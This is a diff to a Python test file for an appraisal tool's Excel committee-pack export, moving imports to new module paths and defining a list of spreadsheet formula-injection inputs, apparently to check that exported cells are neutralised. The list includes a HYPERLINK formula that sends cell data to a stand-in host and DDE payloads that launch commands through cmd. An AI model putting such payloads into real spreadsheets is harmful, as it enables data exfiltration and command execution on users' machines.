@@ -6,16 +6,16 @@ import io
 from pathlib import Path
 from typing import Any
 
+import formulas
 import numpy as np
 import openpyxl
 import pytest
 
-from appraisal.export_excel import committee_pack, totals_layout
-from appraisal.io import case_from_mapping, load_case
-from appraisal.scoring import Appraisal, competition_ranks, percent_of_max
+from appraisal.analysis.scoring import Appraisal, competition_ranks, percent_of_max
+from appraisal.formats.load import load_case
+from appraisal.formats.mapping import case_from_mapping
+from appraisal.report.excel_pack import committee_pack, totals_layout
 from tests.conftest import ROOT
-
-formulas = pytest.importorskip("formulas")
 
 INJECTIONS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
               "-2+3", "\t=1+1", "=1+2"]
